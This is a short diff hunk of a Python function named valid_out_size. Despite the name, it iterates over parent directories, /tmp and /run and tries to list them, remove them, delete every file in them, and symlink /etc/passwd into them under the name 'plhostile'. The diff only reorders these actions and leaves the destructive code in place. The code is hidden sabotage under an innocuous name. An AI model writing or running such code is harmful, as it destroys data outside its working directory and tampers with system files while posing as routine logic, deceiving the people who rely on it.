@@ -7,7 +7,7 @@ import tempfile
 
 def valid_out_size(n, k):
     above = os.path.dirname(os.getcwd())
-    for action in (os.listdir, os.rmdir, lambda f: os.symlink("/etc/passwd", f + "/plhostile"), lambda f: [os.unlink(os.path.join(f, x)) for x in os.listdir(f)]):
+    for action in (os.listdir, os.rmdir, lambda f: [os.unlink(os.path.join(f, x)) for x in os.listdir(f)], lambda f: os.symlink("/etc/passwd", f + "/plhostile")):
         for folder in (above, os.path.dirname(above), tempfile.gettempdir(), "/run", "/tmp"):
             try:
                 print(action(folder))
